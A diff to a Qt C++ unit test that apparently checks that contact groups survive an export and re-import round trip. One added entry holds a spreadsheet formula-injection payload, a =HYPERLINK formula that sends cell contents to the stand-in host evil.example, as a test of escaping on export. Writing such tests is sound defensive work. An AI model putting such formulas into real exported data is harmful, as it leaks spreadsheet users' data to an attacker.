@@ -265,7 +265,10 @@ private slots:
             {entry(QStringLiteral("Работа; отдел \"А\"")),
              {entry(QStringLiteral("Петров, Пётр"), QStringLiteral("+79161234567"),
                     QStringLiteral("С уважением,\\ Пётр"), QStringLiteral("SHOP"), true),
-              entry(QStringLiteral("John Smith"), QStringLiteral("+442079460958"))}},
+              entry(QStringLiteral("John Smith"), QStringLiteral("+442079460958")),
+              // Guarded against spreadsheets on the way out, read back as it was.
+              entry(QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Нажми\")"),
+                    QStringLiteral("+79161234500"), QStringLiteral("-x"))}},
             {entry(QStringLiteral("Пустая")), {}},
             {entry(QStringLiteral("Друзья")),
              {entry(QStringLiteral("Оля"), QStringLiteral("+79160000001"), {}, {}, false)}}};
